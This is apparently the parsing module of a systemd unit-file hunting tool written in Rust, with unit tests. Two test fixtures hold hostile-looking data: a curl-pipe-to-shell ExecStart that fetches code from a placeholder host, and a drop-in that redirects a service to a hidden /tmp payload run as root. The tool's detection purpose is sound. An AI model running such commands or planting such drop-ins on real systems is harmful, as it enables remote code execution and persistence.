//! Unit files read the way systemd reads them (systemd.syntax(7), systemd.service(5)).
//!
//! Written by hand: no crate parses systemd's dialect of INI (continuations that skip comment
//! lines, resets by empty assignment, `Exec*=` words with C escapes and prefixes), and a hunter
//! must see a file exactly as systemd will, including what systemd ignores or refuses, which is
//! reported as a [`Problem`] rather than dropped.

use std::fmt;

/// systemd refuses a unit file with a line longer than this (`LONG_LINE_MAX`, 1 MiB).
pub const MAX_LINE: usize = 1 << 20;

/// One `Key=Value` assignment, with where it came from.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Entry {
    pub section: String,
    pub key: String,
    /// The value with surrounding whitespace removed; continuation lines joined by a space.
    pub value: String,
    /// 1-based line where the assignment starts.
    pub line: usize,
    /// Which file (index in the order files were merged: 0 is the fragment).
    pub file: usize,
}

/// Something systemd would warn about or refuse, with the 1-based line.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Problem {
    pub line: usize,
    pub message: String,
}

impl fmt::Display for Problem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}: {}", self.line, self.message)
    }
}

/// A parsed unit file or drop-in.
#[derive(Clone, Debug, Default)]
pub struct UnitFile {
    pub entries: Vec<Entry>,
    pub problems: Vec<Problem>,
    /// systemd would not load this file at all (a line past [`MAX_LINE`]).
    pub refused: bool,
}

/// Parses a unit file's text. Never fails: what systemd would ignore is in `problems`.
///
/// As systemd's `config_parse`: a line whose first non-blank character is `#` or `;` is a comment,
/// also in the middle of a continuation; a line ending in an unescaped backslash continues on the
/// next, the backslash replaced by a space and the next line appended as it is; each complete
/// line is then stripped of surrounding whitespace and read as a section header or assignment.
pub fn parse(text: &str) -> UnitFile {
    let mut out = UnitFile::default();
    let mut section: Option<String> = None;
    // A continued line being gathered: (its first line, text so far).
    let mut continuation: Option<(usize, String)> = None;
    for (i, raw) in text.split('\n').enumerate() {
        let n = i + 1;
        let raw = raw.strip_suffix('\r').unwrap_or(raw);
        if raw.len() > MAX_LINE {
            return refuse(out, n, format!("line of {} bytes", raw.len()));
        }
        let lead = raw.trim_start_matches(|c: char| c.is_ascii_whitespace());
        if lead.starts_with('#') || lead.starts_with(';') {
            continue;
        }
        let (start, mut line) = match continuation.take() {
            Some((start, mut gathered)) => {
                if gathered.len() + raw.len() > MAX_LINE {
                    return refuse(out, start, "continued line".into());
                }
                gathered.push_str(raw);
                (start, gathered)
            }
            None => (n, raw.to_string()),
        };
        if ends_in_unescaped_backslash(&line) {
            line.pop();
            line.push(' ');
            continuation = Some((start, line));
            continue;
        }
        parse_line(&mut out, &mut section, start, &line);
    }
    if let Some((start, line)) = continuation {
        // The file ends inside a continuation: what was gathered is read as a line.
        parse_line(&mut out, &mut section, start, &line);
    }
    out
}

fn refuse(mut out: UnitFile, line: usize, what: String) -> UnitFile {
    out.problems.push(Problem {
        line,
        message: format!("{what} longer than systemd's limit (1 MiB): systemd refuses the file"),
    });
    out.refused = true;
    out
}

/// True when `s` ends in a backslash that is not itself escaped (`\\` at the end is not a
/// continuation).
fn ends_in_unescaped_backslash(s: &str) -> bool {
    let trailing = s.bytes().rev().take_while(|&b| b == b'\\').count();
    trailing % 2 == 1
}

fn parse_line(out: &mut UnitFile, section: &mut Option<String>, n: usize, line: &str) {
    let line = line.trim_matches(|c: char| c.is_ascii_whitespace());
    if line.is_empty() {
        return;
    }
    if line.starts_with('[') {
        match line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
            Some(name) if !name.is_empty() && !name.contains(['[', ']']) => {
                *section = Some(name.to_string());
            }
            _ => {
                out.problems.push(Problem {
                    line: n,
                    message: format!("invalid section header {line:?}: ignored"),
                });
                *section = None;
            }
        }
        return;
    }
    assign(out, section.as_deref(), n, line);
}

fn assign(out: &mut UnitFile, section: Option<&str>, line: usize, text: &str) {
    let Some((key, value)) = text.split_once('=') else {
        out.problems.push(Problem {
            line,
            message: format!("missing '=' in {text:?}: ignored"),
        });
        return;
    };
    let Some(section) = section else {
        out.problems.push(Problem {
            line,
            message: "assignment outside of any section: ignored".into(),
        });
        return;
    };
    let key = key.trim_matches(|c: char| c.is_ascii_whitespace());
    if key.is_empty() {
        out.problems.push(Problem {
            line,
            message: "assignment without a key: ignored".into(),
        });
        return;
    }
    out.entries.push(Entry {
        section: section.to_string(),
        key: key.to_string(),
        value: value
            .trim_matches(|c: char| c.is_ascii_whitespace())
            .to_string(),
        line,
        file: 0,
    });
}

/// A unit as systemd loads it: the fragment, then its drop-ins, in the order given (systemd
/// applies drop-ins sorted by file name across all their directories).
#[derive(Clone, Debug, Default)]
pub struct Unit {
    pub entries: Vec<Entry>,
}

impl Unit {
    pub fn new(fragment: &UnitFile, dropins: &[&UnitFile]) -> Unit {
        let mut entries = Vec::new();
        for (file, f) in std::iter::once(fragment)
            .chain(dropins.iter().copied())
            .enumerate()
        {
            entries.extend(f.entries.iter().cloned().map(|mut e| {
                e.file = file;
                e
            }));
        }
        Unit { entries }
    }

    /// The values of a list setting (`ExecStart`, `Environment`, `Wants`...), in order: an empty
    /// assignment clears what came before it, as systemd does. Sections starting with `X-` and
    /// keys starting with `X-` are kept (systemd ignores them, a hunter may not).
    pub fn list(&self, section: &str, key: &str) -> Vec<&Entry> {
        let mut out = Vec::new();
        for e in self
            .entries
            .iter()
            .filter(|e| e.section == section && e.key == key)
        {
            if e.value.is_empty() {
                out.clear();
            } else {
                out.push(e);
            }
        }
        out
    }

    /// The value of a single-valued setting: the last assignment (an empty one unsets it).
    pub fn get(&self, section: &str, key: &str) -> Option<&Entry> {
        self.entries
            .iter()
            .rev()
            .find(|e| e.section == section && e.key == key)
            .filter(|e| !e.value.is_empty())
    }
}

/// The prefixes of an `Exec*=` command (systemd.service(5), "Command lines").
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ExecPrefixes {
    /// `@`: the second word is argv[0], the first the executable.
    pub argv0: bool,
    /// `-`: a failure exit code is ignored.
    pub ignore_failure: bool,
    /// `:`: no environment variable substitution.
    pub no_env_expansion: bool,
    /// `+`: runs with full privileges, sandboxing and `User=` not applied.
    pub full_privileges: bool,
    /// `!`: `User=`/`Group=` applied, but ambient capabilities instead of dropping them.
    pub ambient: bool,
    /// `!!`: like `!` on systems without ambient capabilities.
    pub ambient_fallback: bool,
    /// `|`: run through the user's login shell.
    pub via_shell: bool,
}

/// One command of an `Exec*=` setting.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ExecCommand {
    pub prefixes: ExecPrefixes,
    /// The executable, as written (absolute, or a name systemd looks up in fixed directories).
    pub path: String,
    /// argv, argv[0] first (with `@`, the word after the executable).
    pub argv: Vec<String>,
}

/// Splits an `Exec*=` value into commands: words separated by whitespace, `"..."` and `'...'`
/// quoting, C escapes, a lone `;` word between commands (`\;` is a literal `;`), prefixes on the
/// first word of each command. An error says what systemd would refuse.
pub fn parse_exec(value: &str) -> Result<Vec<ExecCommand>, String> {
    let words = split_words(value)?;
    let mut commands = Vec::new();
    let mut current: Vec<String> = Vec::new();
    for w in words {
        match w {
            Word::Separator => {
                if !current.is_empty() {
                    commands.push(command(std::mem::take(&mut current))?);
                }
            }
            Word::Text(t) => current.push(t),
        }
    }
    if !current.is_empty() {
        commands.push(command(current)?);
    }
    Ok(commands)
}

fn command(mut words: Vec<String>) -> Result<ExecCommand, String> {
    let first = words.remove(0);
    let mut prefixes = ExecPrefixes::default();
    let mut rest = first.as_str();
    loop {
        if let Some(r) = rest.strip_prefix("!!") {
            prefixes.ambient_fallback = true;
            rest = r;
            continue;
        }
        let Some(c) = rest.chars().next() else { break };
        match c {
            '@' => prefixes.argv0 = true,
            '-' => prefixes.ignore_failure = true,
            ':' => prefixes.no_env_expansion = true,
            '+' => prefixes.full_privileges = true,
            '!' => prefixes.ambient = true,
            '|' => prefixes.via_shell = true,
            _ => break,
        }
        rest = &rest[c.len_utf8()..];
    }
    let exclusive = [
        prefixes.full_privileges,
        prefixes.ambient,
        prefixes.ambient_fallback,
    ];
    if exclusive.iter().filter(|&&b| b).count() > 1 {
        return Err(format!("{first:?}: '+', '!' and '!!' exclude each other"));
    }
    if rest.is_empty() {
        return Err(format!("{first:?}: no executable after the prefixes"));
    }
    let path = rest.to_string();
    let argv = if prefixes.argv0 {
        if words.is_empty() {
            return Err(format!("{first:?}: '@' needs argv[0] after the executable"));
        }
        words
    } else {
        std::iter::once(path.clone()).chain(words).collect()
    };
    Ok(ExecCommand {
        prefixes,
        path,
        argv,
    })
}

enum Word {
    Text(String),
    /// A lone unquoted `;`.
    Separator,
}

/// Words of a command line, unquoted and unescaped as systemd's `extract_first_word` does with
/// quotes and C escapes.
fn split_words(s: &str) -> Result<Vec<Word>, String> {
    let mut words = Vec::new();
    let mut chars = s.chars().peekable();
    loop {
        while chars.next_if(|c| c.is_ascii_whitespace()).is_some() {}
        if chars.peek().is_none() {
            return Ok(words);
        }
        let mut word = String::new();
        let mut quoted_any = false;
        let mut escaped_any = false;
        while let Some(&c) = chars.peek() {
            if c.is_ascii_whitespace() {
                break;
            }
            chars.next();
            match c {
                '"' | '\'' => {
                    quoted_any = true;
                    loop {
                        match chars.next() {
                            None => return Err(format!("unterminated {c} quote in {s:?}")),
                            Some(q) if q == c => break,
                            Some('\\') => word.push(unescape(&mut chars, s)?),
                            Some(other) => word.push(other),
                        }
                    }
                }
                '\\' => {
                    escaped_any = true;
                    word.push(unescape(&mut chars, s)?);
                }
                other => word.push(other),
            }
        }
        if word == ";" && !quoted_any && !escaped_any {
            words.push(Word::Separator);
        } else {
            words.push(Word::Text(word));
        }
    }
}

/// After a backslash: the character a C escape stands for.
fn unescape(chars: &mut std::iter::Peekable<std::str::Chars<'_>>, s: &str) -> Result<char, String> {
    let c = chars
        .next()
        .ok_or_else(|| format!("trailing backslash in {s:?}"))?;
    let mut hex = |n: usize| -> Result<char, String> {
        let digits: String = (0..n).filter_map(|_| chars.next()).collect();
        u32::from_str_radix(&digits, 16)
            .ok()
            .filter(|_| digits.len() == n)
            .and_then(char::from_u32)
            .filter(|&c| c != '\0')
            .ok_or_else(|| format!("bad escape in {s:?}"))
    };
    Ok(match c {
        'a' => '\x07',
        'b' => '\x08',
        'f' => '\x0c',
        'n' => '\n',
        'r' => '\r',
        't' => '\t',
        'v' => '\x0b',
        's' => ' ',
        'x' => hex(2)?,
        'u' => hex(4)?,
        'U' => hex(8)?,
        '0'..='7' => {
            let mut v = c.to_digit(8).unwrap_or(0);
            for _ in 0..2 {
                let d = chars
                    .next()
                    .and_then(|d| d.to_digit(8))
                    .ok_or_else(|| format!("bad octal escape in {s:?}"))?;
                v = v * 8 + d;
            }
            char::from_u32(v)
                .filter(|&c| c != '\0')
                .ok_or_else(|| format!("bad octal escape in {s:?}"))?
        }
        // `\\`, `\"`, `\'`, `\;`, `\ ` and any other character stand for themselves.
        other => other,
    })
}

/// What specifiers (`%n`, `%i`, `%h`...) expand to for one unit.
#[derive(Clone, Debug, Default)]
pub struct Specifiers {
    /// The full unit name, e.g. `getty@tty1.service`.
    pub unit: String,
    pub user: Option<String>,
    pub uid: Option<String>,
    pub home: Option<String>,
    pub hostname: Option<String>,
    /// `%t`: `/run` for the system manager, `$XDG_RUNTIME_DIR` for a user's.
    pub runtime_dir: Option<String>,
}

/// Expands specifiers in `value` (systemd.unit(5), "Specifiers"). `Err` names the first
/// specifier that cannot be resolved, which makes systemd refuse the setting.
pub fn expand_specifiers(value: &str, spec: &Specifiers) -> Result<String, String> {
    let name = spec.unit.as_str();
    let (stem, _) = name.rsplit_once('.').unwrap_or((name, ""));
    let (prefix, instance) = match stem.split_once('@') {
        Some((p, i)) => (p, i),
        None => (stem, ""),
    };
    let mut out = String::with_capacity(value.len());
    let mut chars = value.chars();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        let Some(s) = chars.next() else {
            return Err("a lone '%' at the end".into());
        };
        let unavailable = |what: &str| format!("%{s} ({what}) is not known for this unit");
        match s {
            '%' => out.push('%'),
            'n' => out.push_str(name),
            'N' => out.push_str(stem),
            'p' => out.push_str(prefix),
            'P' => out.push_str(&unescape_unit_name(prefix)),
            'i' => out.push_str(instance),
            'I' => out.push_str(&unescape_unit_name(instance)),
            'j' => out.push_str(prefix.rsplit('-').next().unwrap_or(prefix)),
            'f' => {
                let f = if instance.is_empty() {
                    prefix
                } else {
                    instance
                };
                let f = unescape_unit_name(f);
                if !f.starts_with('/') {
                    out.push('/');
                }
                out.push_str(&f);
            }
            'u' => out.push_str(spec.user.as_deref().ok_or_else(|| unavailable("user"))?),
            'U' => out.push_str(spec.uid.as_deref().ok_or_else(|| unavailable("uid"))?),
            'h' => out.push_str(spec.home.as_deref().ok_or_else(|| unavailable("home"))?),
            'H' | 'l' => out.push_str(
                spec.hostname
                    .as_deref()
                    .ok_or_else(|| unavailable("hostname"))?,
            ),
            't' => out.push_str(
                spec.runtime_dir
                    .as_deref()
                    .ok_or_else(|| unavailable("runtime directory"))?,
            ),
            other => return Err(format!("%{other} is not a specifier unithunt resolves")),
        }
    }
    Ok(out)
}

/// Unit name unescaping (systemd-escape): `-` is `/`, `\xNN` a byte.
fn unescape_unit_name(s: &str) -> String {
    let mut bytes = Vec::with_capacity(s.len());
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'-' => bytes.push(b'/'),
            b'\\' if i + 3 < b.len() && b.get(i + 1) == Some(&b'x') => {
                match std::str::from_utf8(&b[i + 2..(i + 4).min(b.len())])
                    .ok()
                    .and_then(|h| u8::from_str_radix(h, 16).ok())
                {
                    Some(v) => {
                        bytes.push(v);
                        i += 4;
                        continue;
                    }
                    None => bytes.push(b'\\'),
                }
            }
            other => bytes.push(other),
        }
        i += 1;
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn values<'a>(u: &'a Unit, section: &str, key: &str) -> Vec<&'a str> {
        u.list(section, key)
            .iter()
            .map(|e| e.value.as_str())
            .collect()
    }

    #[test]
    fn sections_comments_whitespace_and_problems() {
        let f = parse(
            "# leading comment\n; another\nUser=nobody\n[Unit]\n  Description = acme updater  \n\n[Service]\nExecStart=/bin/true\nnot an assignment\n[Broken\nX-Custom=kept\n[X-Vendor]\nAnything=1\n",
        );
        let u = Unit::new(&f, &[]);
        assert_eq!(u.get("Unit", "Description").unwrap().value, "acme updater");
        assert_eq!(u.get("Unit", "Description").unwrap().line, 5);
        assert_eq!(values(&u, "Service", "ExecStart"), ["/bin/true"]);
        assert_eq!(u.get("X-Vendor", "Anything").unwrap().value, "1");
        let problems: Vec<String> = f.problems.iter().map(|p| p.to_string()).collect();
        assert_eq!(
            problems,
            [
                "line 3: assignment outside of any section: ignored",
                "line 9: missing '=' in \"not an assignment\": ignored",
                "line 10: invalid section header \"[Broken\": ignored",
                "line 11: assignment outside of any section: ignored",
            ]
        );
    }

    #[test]
    fn continuations_join_with_a_space_and_skip_comment_lines() {
        let f = parse("[Service]\nExecStart=/bin/sh -c \\\n  'echo a; \\\n  # a comment inside\n; and another\n   echo b'\nUser=root\r\n");
        let u = Unit::new(&f, &[]);
        let e = u.get("Service", "ExecStart").unwrap();
        // Each backslash became a space; the next lines were appended as they are.
        assert_eq!(e.value, "/bin/sh -c    'echo a;     echo b'");
        assert_eq!(e.line, 2);
        assert_eq!(u.get("Service", "User").unwrap().value, "root");
        // An escaped backslash at the end does not continue; a blank line ends a continuation.
        let f = parse("[Service]\nEnvironment=A=x\\\\\nUser=a \\\n\nGroup=b\n");
        let v: Vec<(&str, &str)> = f
            .entries
            .iter()
            .map(|e| (e.key.as_str(), e.value.as_str()))
            .collect();
        assert_eq!(
            v,
            [("Environment", "A=x\\\\"), ("User", "a"), ("Group", "b")]
        );
        // A file ending inside a continuation keeps what it gathered.
        let f = parse("[Service]\nExecStart=/bin/true \\");
        assert_eq!(f.entries[0].value, "/bin/true");
    }

    #[test]
    fn empty_assignments_reset_lists_and_drop_ins_apply_in_order() {
        let fragment = parse(
            "[Service]\nExecStart=/usr/bin/app\nExecStartPre=/bin/a\nEnvironment=A=1\nUser=app\n",
        );
        let dropin1 = parse("[Service]\nExecStart=\nExecStart=/tmp/.x/payload\nUser=root\n");
        let dropin2 = parse("[Service]\nEnvironment=B=2\nUser=\n");
        let u = Unit::new(&fragment, &[&dropin1, &dropin2]);
        assert_eq!(values(&u, "Service", "ExecStart"), ["/tmp/.x/payload"]);
        assert_eq!(u.list("Service", "ExecStart")[0].file, 1);
        assert_eq!(values(&u, "Service", "ExecStartPre"), ["/bin/a"]);
        assert_eq!(values(&u, "Service", "Environment"), ["A=1", "B=2"]);
        // The last drop-in unsets User=.
        assert!(u.get("Service", "User").is_none());
    }

    #[test]
    fn exec_lines_prefixes_quotes_escapes_and_separators() {
        let c = parse_exec(r#"-/bin/sh -c "curl -s http://x/a.sh | sh" ; @/usr/bin/python3 python -c 'print(1)' \; ok"#).unwrap();
        assert_eq!(c.len(), 2);
        assert!(c[0].prefixes.ignore_failure && !c[0].prefixes.argv0);
        assert_eq!(c[0].path, "/bin/sh");
        assert_eq!(c[0].argv, ["/bin/sh", "-c", "curl -s http://x/a.sh | sh"]);
        assert!(c[1].prefixes.argv0);
        assert_eq!(c[1].path, "/usr/bin/python3");
        assert_eq!(c[1].argv, ["python", "-c", "print(1)", ";", "ok"]);
        let p = parse_exec("+:-/usr/bin/x").unwrap()[0].prefixes;
        assert!(p.full_privileges && p.no_env_expansion && p.ignore_failure);
        let p = parse_exec("!!/usr/bin/x").unwrap()[0].prefixes;
        assert!(p.ambient_fallback && !p.ambient);
        assert!(parse_exec("|/bin/true").unwrap()[0].prefixes.via_shell);
        assert_eq!(
            parse_exec(r#"/bin/echo "a\tb" \x41\101 '\''"#).unwrap()[0].argv,
            ["/bin/echo", "a\tb", "AA", "'"]
        );
        for bad in [
            "/bin/sh -c \"unterminated",
            "+!/bin/x",
            "@/bin/x",
            "-",
            "/bin/x \\",
        ] {
            assert!(parse_exec(bad).is_err(), "{bad}");
        }
        assert!(parse_exec("").unwrap().is_empty());
    }

    #[test]
    fn specifiers_expand_for_templates_and_users() {
        let spec = Specifiers {
            unit: "backup@srv-data.service".into(),
            user: Some("root".into()),
            uid: Some("0".into()),
            home: Some("/root".into()),
            hostname: Some("web-01".into()),
            runtime_dir: Some("/run".into()),
        };
        assert_eq!(
            expand_specifiers("%n %N %p %i %I %f %u %U %h %H %t 100%%", &spec).unwrap(),
            "backup@srv-data.service backup@srv-data backup srv-data srv/data /srv/data root 0 /root web-01 /run 100%"
        );
        let bare = Specifiers {
            unit: "x.service".into(),
            ..Specifiers::default()
        };
        assert!(expand_specifiers("%h/bin", &bare)
            .unwrap_err()
            .contains("%h"));
        assert!(expand_specifiers("%Z", &bare).is_err());
        assert!(expand_specifiers("50%", &bare).is_err());
    }

    #[test]
    fn over_long_lines_make_systemd_refuse_the_file() {
        let text = format!("[Service]\nExecStart=/bin/{}\n", "a".repeat(MAX_LINE));
        let f = parse(&text);
        assert!(f.refused);
        assert!(f.problems[0].message.contains("refuses the file"));
        // Continued pieces count together.
        let half = "a".repeat(MAX_LINE / 2 + 10);
        let f = parse(&format!("[Service]\nExecStart=/bin/{half}\\\n{half}\n"));
        assert!(f.refused);
        assert_eq!(f.problems[0].line, 2);
    }
}
